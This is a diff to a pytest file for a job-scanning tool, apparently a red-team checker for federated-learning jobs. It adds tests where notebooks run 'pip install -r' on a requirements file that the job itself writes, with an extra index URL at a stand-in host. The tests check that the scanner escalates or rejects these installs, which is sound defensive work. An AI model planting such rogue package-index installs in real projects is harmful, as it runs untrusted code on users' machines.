@@ -8,6 +8,8 @@
 
 from __future__ import annotations
 
+import json
+
 import pytest
 
 import redteam_kit as kit
@@ -81,3 +83,38 @@ def test_a_variable_the_script_may_set_otherwise_stays_a_threat(tmp_path, before
 ])
 def test_with_constants_leaves_other_lines_as_they_are(line):
     assert with_constants(line, ["DATASET_ROOT=/tmp/d"]) == line
+
+
+# ---- a notebook's `pip install -r FILE` of a file the job does not hold -----------------------------------------
+
+def notebook(*sources: str) -> str:
+    cells = [{"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [], "source": s}
+             for s in sources]
+    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells})
+
+
+INSTALL = "!pip install -r code/requirements.txt"
+WRITER = ("from pathlib import Path\n\ndef prepare():\n    Path('code').mkdir(exist_ok=True)\n"
+          "    Path('code/requirements.txt').write_text('--extra-index-url https://x.example/simple\\nfl-kit\\n')\n")
+
+
+def test_a_requirements_file_the_job_does_not_hold_is_the_sites_own(tmp_path):
+    # NVFlare part 2, 03.3: `! pip install -r code/requirements.txt`, no code/requirements.txt in the folder
+    report = kit.scan_files(tmp_path, {"client.py": TRAIN, "run.ipynb": notebook(INSTALL, "print(1)")})
+    kit.assert_held(report, "files.notebook-package-install", Decision.ESCALATE)
+    assert any("code/requirements.txt not in the job" in f.message for f in report.findings), kit.findings(report)
+
+
+@pytest.mark.parametrize("files", [
+    {"run.ipynb": notebook("%%writefile code/requirements.txt\n--extra-index-url https://x.example/simple\nfl-kit",
+                           INSTALL)},
+    {"run.ipynb": notebook("import env_setup\nenv_setup.prepare()", INSTALL), "env_setup.py": WRITER},
+    # present in the job and overwritten by a module before the install: escalated on main
+    {"run.ipynb": notebook("import env_setup\nenv_setup.prepare()", INSTALL), "env_setup.py": WRITER,
+     "code/requirements.txt": "numpy\n"},
+    {"run.ipynb": notebook("!bash ./setup.sh", INSTALL),
+     "setup.sh": "mkdir -p code\necho fl-kit > code/requirements.txt\n"},
+])
+def test_a_requirements_file_the_job_may_write_stays_a_threat(tmp_path, files):
+    kit.assert_held(kit.scan_files(tmp_path, {"client.py": TRAIN, **files}), "files.notebook-shell-network",
+                    Decision.REJECT)
